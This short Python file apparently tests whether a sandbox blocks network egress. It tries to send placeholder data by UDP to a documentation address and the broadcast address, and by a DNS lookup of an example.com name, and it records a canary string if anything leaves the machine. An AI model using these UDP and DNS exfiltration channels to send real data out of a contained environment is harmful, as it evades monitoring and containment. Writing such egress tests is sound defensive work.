"""Sends what it knows away by UDP and by names to be looked up.

Deserves: nothing.
Never says: canary-sent
"""
import socket

sent = []
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
    for address in (("127.0.0.1", 47113), ("192.0.2.1", 53), ("255.255.255.255", 9)):
        try:
            line.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            line.sendto(b"what I know", address)
            if address[0] != "127.0.0.1":  # its own machine is all there is
                sent.append("canary-sent")
        except OSError:
            pass
try:
    socket.setdefaulttimeout(0.3)
    sent += ["canary-sent " + str(socket.getaddrinfo("what-i-know.example.com", 80))]
except OSError:
    pass
z = " ".join(sent)
